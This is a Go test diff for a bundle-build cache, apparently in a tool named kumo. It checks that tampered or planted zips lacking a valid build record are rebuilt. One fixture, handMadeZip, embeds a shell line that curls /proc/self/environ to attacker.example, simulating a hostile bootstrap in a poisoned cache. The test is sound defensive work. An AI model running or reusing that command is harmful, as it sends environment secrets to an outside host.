@@ -8,6 +8,7 @@ import (
 	"debug/elf"
 	"encoding/base64"
 	"errors"
+	"fmt"
 	"io"
 	"os"
 	"path/filepath"
@@ -417,7 +418,7 @@ func TestConcurrentBuilds(t *testing.T) {
 			t.Errorf("build %d: got %+v; want %+v", i, results[i], results[0])
 		}
 	}
-	if got, ok := readCached(results[0].Path); !ok || got != results[0].CodeSHA256 {
+	if got, ok := readCached(results[0].Path, results[0].SourceHash); !ok || got != results[0].CodeSHA256 {
 		t.Errorf("cached zip after concurrent builds: got %q, readable=%v; want %q", got, ok, results[0].CodeSHA256)
 	}
 	if got := builds.Load(); got != 1 {
@@ -439,5 +440,115 @@ func BenchmarkBuildCached(b *testing.B) {
 		if _, err := Build(ctx, spec); err != nil {
 			b.Fatal(err)
 		}
+	}
+}
+
+// handMadeZip is a well-formed bundle (one executable bootstrap entry) that
+// kumo did not build: what a tampered or foreign cache holds.
+func handMadeZip(tb testing.TB) []byte {
+	tb.Helper()
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	hdr := &zip.FileHeader{Name: "bootstrap", Method: zip.Deflate, Modified: zipTime}
+	hdr.SetMode(0o755)
+	w, err := zw.CreateHeader(hdr)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	if _, err := io.WriteString(w, "#!/bin/sh\ncurl -d @/proc/self/environ https://attacker.example\n"); err != nil {
+		tb.Fatal(err)
+	}
+	if err := zw.Close(); err != nil {
+		tb.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// TestCacheDoesNotTrustPlantedZips: a zip kumo has no record of building
+// for these sources is rebuilt, and the result is byte-identical to a fresh
+// build, whether it replaced a cached bundle or arrived in a cache kumo never
+// wrote (a CI cache restore, a hand copy).
+func TestCacheDoesNotTrustPlantedZips(t *testing.T) {
+	t.Parallel()
+	fresh := mustBuild(t, defaultBuilder, Spec{Root: newModule(t), Package: handlerPkg})
+	genuine := readFile(t, fresh.Path)
+	planted := handMadeZip(t)
+
+	t.Run("tampered after a build", func(t *testing.T) {
+		t.Parallel()
+		b, builds := newCountingBuilder()
+		spec := Spec{Root: newModule(t), Package: handlerPkg}
+		first := mustBuild(t, b, spec)
+		if err := os.WriteFile(first.Path, planted, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		got := mustBuild(t, b, spec)
+		if n := builds.Load(); n != 2 {
+			t.Errorf("go build ran %d times; want 2 (the tampered zip rebuilt)", n)
+		}
+		assertGenuine(t, got, genuine, fresh)
+	})
+	t.Run("planted in an empty cache", func(t *testing.T) {
+		t.Parallel()
+		b, builds := newCountingBuilder()
+		root := newModule(t)
+		writeFile(t, root, fresh.RelPath, string(planted))
+		got := mustBuild(t, b, Spec{Root: root, Package: handlerPkg})
+		if n := builds.Load(); n != 1 {
+			t.Errorf("go build ran %d times; want 1 (the planted zip rebuilt)", n)
+		}
+		assertGenuine(t, got, genuine, fresh)
+	})
+	// The record, not the zip's looks, decides: even the genuine bytes are
+	// rebuilt when their record is missing or names other sources.
+	for name, breakRecord := range map[string]func(t *testing.T, path string){
+		"genuine zip without its record": func(t *testing.T, path string) {
+			if err := os.Remove(path); err != nil {
+				t.Fatal(err)
+			}
+		},
+		"record of other sources": func(t *testing.T, path string) {
+			rec := strings.Replace(string(readFile(t, path)), fresh.SourceHash, strings.Repeat("0", 64), 1)
+			if err := os.WriteFile(path, []byte(rec), 0o644); err != nil {
+				t.Fatal(err)
+			}
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			b, builds := newCountingBuilder()
+			spec := Spec{Root: newModule(t), Package: handlerPkg}
+			first := mustBuild(t, b, spec)
+			breakRecord(t, recordPath(first.Path))
+			got := mustBuild(t, b, spec)
+			if n := builds.Load(); n != 2 {
+				t.Errorf("go build ran %d times; want 2 (rebuilt for want of a valid record)", n)
+			}
+			assertGenuine(t, got, genuine, fresh)
+			if again := mustBuild(t, b, spec); builds.Load() != 2 || *again != *got {
+				t.Errorf("after the rebuild: %d builds, %+v; want a cache hit", builds.Load(), again)
+			}
+		})
+	}
+}
+
+func TestCacheRecord(t *testing.T) {
+	t.Parallel()
+	got := mustBuild(t, defaultBuilder, Spec{Root: newModule(t), Package: handlerPkg})
+	want := fmt.Sprintf("{\n  \"format\": %q,\n  \"sourceHash\": %q,\n  \"codeSha256\": %q,\n  \"size\": %d\n}\n",
+		cacheFormat, got.SourceHash, got.CodeSHA256, len(readFile(t, got.Path)))
+	recPath := strings.TrimSuffix(got.Path, ".zip") + ".json"
+	if rec := string(readFile(t, recPath)); rec != want {
+		t.Errorf("record %s = %s; want %s", recPath, rec, want)
+	}
+}
+
+func assertGenuine(t *testing.T, got *Bundle, genuine []byte, fresh *Bundle) {
+	t.Helper()
+	if !bytes.Equal(readFile(t, got.Path), genuine) {
+		t.Errorf("zip at %s is not the genuine build", got.Path)
+	}
+	if got.CodeSHA256 != fresh.CodeSHA256 || got.SourceHash != fresh.SourceHash || got.RelPath != fresh.RelPath {
+		t.Errorf("bundle = %+v; want the fresh build's hashes and path %+v", got, fresh)
 	}
 }
